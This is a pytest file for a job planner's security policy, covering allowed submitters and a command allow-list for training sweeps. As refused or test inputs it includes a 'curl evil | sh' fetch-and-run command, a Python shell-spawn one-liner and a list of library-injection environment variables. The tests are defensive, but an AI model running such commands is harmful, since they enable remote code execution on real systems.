"""The planner's policy: submitters by validated AMQP user_id, and the allowed commands.

Pure checks with plain values, then the sweeps-queue handler over the in-memory
repositories: a refused submission is recorded ``rejected`` with the reason, a
refused cancel is dead-lettered (the handler raises a PermanentError) and
changes nothing. Over RabbitMQ with real users: tests/security/test_broker_users.py.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from spotsweep.services.planner.bodies import cancellation
from spotsweep.services.planner.handlers import handle_sweep_message
from spotsweep.services.planner.policy import Policy, command_problem, sender_problem
from spotsweep.shared.errors import PermanentError

SPEC: dict[str, Any] = {
    "name": "pol",
    "command": ["python", "train.py", "--lr", "{lr}"],
    "metric": {"name": "loss", "mode": "min"},
    "space": {"lr": [0.1, 0.2]},
    "resources": {"gpus": 0, "class": "cpu"},
}
POLICY = Policy.of("alice, bob", "python train.py*,spotsweep train *")


# -- pure ------------------------------------------------------------------------


def test_settings_lists_are_comma_separated_and_unset_means_anyone_anything() -> None:
    assert POLICY.submitters == frozenset({"alice", "bob"})
    assert POLICY.allowed_commands == ("python train.py*", "spotsweep train *")
    assert Policy.of(None, " , ") == Policy()
    assert sender_problem(Policy(), None) is None
    assert command_problem(Policy(), ["bash", "-c", "curl evil | sh"], {"LD_PRELOAD": "x"}) is None


def test_only_listed_submitters_are_taken() -> None:
    assert sender_problem(POLICY, "alice") is None
    refused = sender_problem(POLICY, "mallory")
    assert refused is not None and "'mallory'" in refused and "SPOTSWEEP_SUBMITTERS" in refused
    missing = sender_problem(POLICY, None)  # a client that did not set user_id: not a submitter either
    assert missing is not None and "no user_id" in missing


@pytest.mark.parametrize("command", [
    ["python", "train.py"],
    ["python", "train.py", "--lr", "{lr}"],
    ["spotsweep", "train", "tinylm", "--lr", "{lr}"],
])
def test_commands_matching_a_glob_may_run(command: list[str]) -> None:
    assert command_problem(POLICY, command, {"CUDA_LAUNCH_BLOCKING": "1"}) is None


@pytest.mark.parametrize("command", [
    ["python", "-c", "import os; os.system('sh')"],
    ["bash", "-c", "python train.py"],
    ["spotsweep", "train tinylm"],  # one argument with a space: quoted, so it does not meet "spotsweep train *"
    ["python", "evil.py", "train.py"],
])
def test_other_commands_are_refused_naming_the_command_and_the_policy(command: list[str]) -> None:
    problem = command_problem(POLICY, command, {})
    assert problem is not None and "not allowed" in problem
    assert "'python train.py*'" in problem and "SPOTSWEEP_ALLOWED_COMMANDS" in problem


@pytest.mark.parametrize("variable", ["LD_PRELOAD", "PYTHONPATH", "PATH", "DYLD_INSERT_LIBRARIES", "BASH_ENV"])
def test_under_a_command_policy_env_may_not_choose_the_code(variable: str) -> None:
    problem = command_problem(POLICY, ["python", "train.py"], {variable: "/tmp/x"})
    assert problem is not None and variable in problem


# -- the sweeps queue's handler, in memory -----------------------------------------------


def post(h: Any, delivery: Any, body: bytes, headers: dict[str, Any], user: str | None) -> Any:
    d = delivery(body, headers)
    d.user_id = user
    return d


def test_a_submission_from_a_non_submitter_is_recorded_rejected_with_the_reason(h: Any, delivery: Any) -> None:
    h.deps.policy = POLICY
    d = post(h, delivery, json.dumps(SPEC).encode(), {"sweep_id": "pol-000000b1"}, "mallory")
    handle_sweep_message(d, h.deps)
    assert d.settled == "ack"
    sweep = h.sweep("pol-000000b1")
    assert sweep["state"] == "rejected" and "not a submitter" in sweep["error"] and "'mallory'" in sweep["error"]
    assert h.published() == []  # nothing ran


def test_a_submitters_sweep_runs(h: Any, delivery: Any) -> None:
    h.deps.policy = POLICY
    handle_sweep_message(post(h, delivery, json.dumps(SPEC).encode(), {"sweep_id": "pol-000000b2"}, "alice"), h.deps)
    assert h.sweep("pol-000000b2")["state"] == "running"
    assert len(h.published(2)) == 2


def test_a_cancel_from_a_non_submitter_is_dead_lettered_and_changes_nothing(h: Any, delivery: Any) -> None:
    h.deps.policy = POLICY
    handle_sweep_message(post(h, delivery, json.dumps(SPEC).encode(), {"sweep_id": "pol-000000b3"}, "alice"), h.deps)
    forged = cancellation("pol-000000b3")
    d = post(h, delivery, forged.body, forged.headers, "mallory")
    with pytest.raises(PermanentError, match="sweep.cancel of pol-000000b3: not a submitter"):
        handle_sweep_message(d, h.deps)  # the dispatcher dead-letters it with this reason
    assert d.settled is None
    assert h.sweep("pol-000000b3")["state"] == "running"
    assert h.told(timeout=0.2) is None  # no agent was told to stop anything
